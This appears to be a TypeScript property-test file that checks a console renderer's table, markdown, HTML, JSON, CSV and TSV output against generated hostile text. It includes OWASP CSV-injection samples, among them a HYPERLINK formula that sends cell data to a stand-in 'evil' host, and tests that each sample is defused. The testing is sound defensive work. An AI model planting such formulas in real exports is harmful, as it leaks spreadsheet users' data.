import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { hasUnsafeChar } from '../../../grammar/control-chars.js';
import { displayWidth } from '../../../grammar/text-width.js';
import { render } from '../../../console/render/formats.js';
import { safeJson } from '../../../console/render/safe-json.js';
import { fromTerminalText, terminalText } from '../../../console/render/terminal-text.js';
import type { Format } from '../../../console/args.js';
import { col, type ResultTable } from '../../../src/result/table.js';
import { runs } from '../../grammar/arbitraries.js';
import { hostileText } from './hostile.js';

/**
 * Issue 15.5: what others wrote cannot attack a terminal or a spreadsheet.
 * Every renderer is given generated hostile text (test/console/render/hostile.ts)
 * in cells and in column names; what it prints must hold no character that
 * acts on a terminal except line breaks (and, where harmless, tabs) and the
 * renderer's own bold, and must still say exactly what was stored.
 */
const counts: Record<string, number> = {};
const count = (what: string) => (counts[what] = (counts[what] ?? 0) + 1);
afterAll(() => console.log(`hostile output: ${JSON.stringify(counts)}`));

const table = fc
  .tuple(fc.array(hostileText, { minLength: 1, maxLength: 3 }), fc.integer({ min: 0, max: 4 }))
  .chain(([names, rows]) =>
    fc.record({
      names: fc.constant(names),
      rows: fc.array(fc.tuple(fc.array(hostileText, { minLength: names.length, maxLength: names.length }), fc.integer({ min: -1e6, max: 1e6 })), {
        minLength: rows,
        maxLength: rows,
      }),
    }),
  )
  .map(({ names, rows }): ResultTable => ({
    columns: [...names.map((n) => col(n, 'TEXT')), col('n', 'LONG')],
    rows: rows.map(([cells, n]) => [...cells, n]),
  }));

const ESC = String.fromCharCode(0x1b);
const OUR_BOLD = new RegExp(`${ESC}\\[1m|${ESC}\\[22m`, 'g');

/** What is left of an output once the characters a format may legitimately hold are taken out. */
function residue(out: string, allowed: RegExp): string {
  return out.replace(OUR_BOLD, '').replace(allowed, '');
}

describe('terminal formats show hostile text as escapes', () => {
  it('table and expanded display, fitted or not, colour on or off: no control, bidi or invisible character acts', () => {
    fc.assert(
      fc.property(table, fc.constantFrom(undefined, 40, 80, 200), fc.boolean(), fc.constantFrom(false, true, 'auto' as const), (t, width, color, expanded) => {
        const out = render(t, 'table', { width, color, expanded });
        expect(hasUnsafeChar(residue(out, /\n/g)), JSON.stringify(out)).toBe(false);
        // The only escape sequences are the renderer's own bold header.
        if (!color) expect(out).not.toContain('\x1b');
        count('table');
      }),
      { numRuns: runs(400) },
    );
  });

  it('expanded display says exactly what was stored: every value reads back through fromTerminalText', () => {
    fc.assert(
      fc.property(hostileText, hostileText, (name, value) => {
        const t: ResultTable = { columns: [col(name, 'TEXT')], rows: [[value]] };
        const lines = render(t, 'table', { expanded: true }).split('\n');
        const shownName = terminalText(name);
        const first = `${shownName} | `;
        const next = `${' '.repeat(displayWidth(shownName))} | `;
        expect(lines[1]!.startsWith(first), JSON.stringify(lines)).toBe(true);
        for (const l of lines.slice(2, -1)) expect(l.startsWith(next)).toBe(true);
        const shown = [lines[1]!.slice(first.length), ...lines.slice(2, -1).map((l) => l.slice(next.length))].join('\n');
        // A line break shows as a new line (CRLF as one too); everything else reads back exactly.
        expect(fromTerminalText(shown)).toBe(value.replace(/\r\n/g, '\n'));
        expect(fromTerminalText(shownName)).toBe(name);
        count('expanded round trip');
      }),
      { numRuns: runs(1000) },
    );
  });

  it('the escape is reversible, so two different texts never look the same', () => {
    fc.assert(
      fc.property(hostileText, hostileText, fc.record({ lines: fc.boolean(), tabs: fc.boolean(), returns: fc.boolean() }), (a, b, keep) => {
        const shown = terminalText(a, keep);
        expect(fromTerminalText(shown)).toBe(a);
        if (a !== b) expect(terminalText(b, keep)).not.toBe(shown);
        const leftover = shown.replace(keep.lines ? /\r?\n/g : /(?!)/g, '').replace(keep.tabs ? /\t/g : /(?!)/g, '').replace(keep.returns ? /\r/g : /(?!)/g, '');
        expect(hasUnsafeChar(leftover)).toBe(false);
        count('escape round trip');
      }),
      { numRuns: runs(3000) },
    );
    // Text without controls or escape-like backslashes prints unchanged.
    for (const s of ['C:\\Users\\me', 'a\\b', 'mnist_v1', '한국어 모델', '👨‍👩‍👧', 'علی‌رضا']) expect(terminalText(s)).toBe(s);
  });

  it('markdown: HTML, links and images stay text; html: only its own tags; both read back', () => {
    fc.assert(
      fc.property(table, (t) => {
        const md = render(t, 'markdown');
        expect(hasUnsafeChar(residue(md, /[\n\t]/g)), JSON.stringify(md)).toBe(false);
        const mdText = md.replace(/<br>/g, '');
        expect(mdText).not.toMatch(/[<>]/);
        // Every [ ] that could open a link or an image is backslash-escaped.
        expect(mdText.replace(/\\\\/g, '').replace(/\\[[\]]/g, '')).not.toMatch(/[[\]]/);

        const html = render(t, 'html');
        expect(hasUnsafeChar(residue(html, /\r\n|[\n\t]/g)), JSON.stringify(html)).toBe(false);
        const ours = /<\/?(?:table|thead|tbody|tr|th|td)(?: class="mlmodel"| data-type="[A-Z]+")?>/g;
        expect(html.replace(ours, '')).not.toMatch(/[<>"']/);
        const tds = [...html.matchAll(/<td>([^<]*)<\/td>/g)].map((m) => fromTerminalText(decodeEntities(m[1]!)));
        expect(tds).toEqual(t.rows.flatMap((r) => r.map((c) => String(c))));
        const ths = [...html.matchAll(/<th data-type="[A-Z]+">([^<]*)<\/th>/g)].map((m) => fromTerminalText(decodeEntities(m[1]!)));
        expect(ths).toEqual(t.columns.map((c) => c.name));
        count('markdown+html');
      }),
      { numRuns: runs(400) },
    );
  });

  it('json and jsonl: the same values back, and no character that acts on a terminal in the text', () => {
    fc.assert(
      fc.property(table, (t) => {
        const json = render(t, 'json');
        expect(hasUnsafeChar(json), JSON.stringify(json)).toBe(false);
        expect((JSON.parse(json) as { rows: unknown }).rows).toEqual(t.rows);
        // Indented (as --parse prints for a person): the line breaks are the indentation's only.
        const pretty = safeJson(t.rows, 2);
        expect(hasUnsafeChar(pretty.replace(/\n/g, ''))).toBe(false);
        expect(JSON.parse(pretty)).toEqual(t.rows);
        const jsonl = render(t, 'jsonl');
        expect(hasUnsafeChar(jsonl.replace(/\n/g, ''))).toBe(false);
        if (t.rows.length > 0) expect(jsonl.split('\n').map((l) => Object.values(JSON.parse(l) as object))).toEqual(t.rows.map((r) => uniqueByName(t, r)));
        count('json');
      }),
      { numRuns: runs(400) },
    );
  });
});

describe('CSV and TSV: formulas defused unless --raw, and the cells read back', () => {
  const TRIGGER = /^[=+\-@\t\r]/;
  /** What a defused cell must read as: a leading ' before a formula trigger, control characters as escapes. */
  const check = (parsed: string, stored: string | number, raw: boolean) => {
    if (raw) return expect(parsed).toBe(String(stored));
    if (typeof stored === 'number') return expect(parsed).toBe(String(stored));
    expect(parsed).not.toMatch(TRIGGER);
    const back = fromTerminalText(parsed);
    expect(back).toBe(TRIGGER.test(stored) ? `'${stored}` : stored);
  };

  for (const format of ['csv', 'tsv'] as const) {
    it(`${format}: every cell and header parses back; with raw exactly as stored`, () => {
      fc.assert(
        fc.property(table, fc.boolean(), (t, raw) => {
          const out = render(t, format as Format, { raw });
          const parsed = format === 'csv' ? parseCsv(out) : parseTsv(out);
          expect(parsed).toHaveLength(t.rows.length + 1);
          t.columns.forEach((c, i) => check(parsed[0]![i]!, c.name, raw));
          t.rows.forEach((r, k) => r.forEach((cell, i) => check(parsed[k + 1]![i]!, cell as string | number, raw)));
          if (!raw) {
            // Nothing in the file acts on a terminal: tabs and line breaks only (CSV quotes carry CRLF).
            const allowed = format === 'csv' ? /\r\n|[\n\t]/g : /[\n\t]/g;
            expect(hasUnsafeChar(out.replace(allowed, '')), JSON.stringify(out)).toBe(false);
          }
          count(`${format}${raw ? ' raw' : ''}`);
        }),
        { numRuns: runs(500) },
      );
    });
  }

  it('the OWASP examples, and numbers stay numbers', () => {
    const t: ResultTable = {
      columns: [col('description', 'TEXT'), col('n', 'LONG')],
      rows: [
        ['=HYPERLINK("http://evil/?"&A1,"click")', -1],
        ['@SUM(1+1)', 2],
        ['+1', -3.5],
        ['-2+3', 0],
        ['\t=1', 1],
        ['\r=1', 1],
        ['plain', 1],
      ],
    };
    expect(parseCsv(render(t, 'csv')).map((r) => r[0])).toEqual(["description", `'=HYPERLINK("http://evil/?"&A1,"click")`, "'@SUM(1+1)", "'+1", "'-2+3", "'\t=1", "'\\x0d=1", 'plain']);
    expect(parseCsv(render(t, 'csv')).map((r) => r[1])).toEqual(['n', '-1', '2', '-3.5', '0', '1', '1', '1']);
    expect(parseCsv(render(t, 'csv', { raw: true })).map((r) => r[0]).slice(1)).toEqual(t.rows.map((r) => r[0]));
    expect(parseTsv(render(t, 'tsv')).map((r) => r[0]).slice(1, 4)).toEqual([`'=HYPERLINK("http://evil/?"&A1,"click")`, "'@SUM(1+1)", "'+1"]);
  });
});

/** jsonl keys rows by column name: a repeated name keeps the last value. */
function uniqueByName(t: ResultTable, row: readonly unknown[]): unknown[] {
  const o: Record<string, unknown> = {};
  t.columns.forEach((c, i) => (o[c.name] = row[i]));
  return Object.values(o);
}

function decodeEntities(s: string): string {
  return s.replace(/&(amp|lt|gt|quot|#39);/g, (_, e: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'" })[e]!);
}

/** RFC 4180, as a spreadsheet reads it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c !== '"') field += c;
      else if (text[i + 1] === '"') {
        field += '"';
        i++;
      } else quoted = false;
    } else if (c === '"' && field === '' && !wasQuoted) quoted = wasQuoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
      wasQuoted = false;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      wasQuoted = false;
      i++;
    } else field += c;
  }
  row.push(field);
  rows.push(row);
  return rows;
}

/** PostgreSQL's text format: \\ \t \n \r escaped inside fields. */
function parseTsv(text: string): string[][] {
  return text.split('\n').map((line) => line.split('\t').map((f) => f.replace(/\\([\\tnr])/g, (_, c: string) => ({ '\\': '\\', t: '\t', n: '\n', r: '\r' })[c]!)));
}
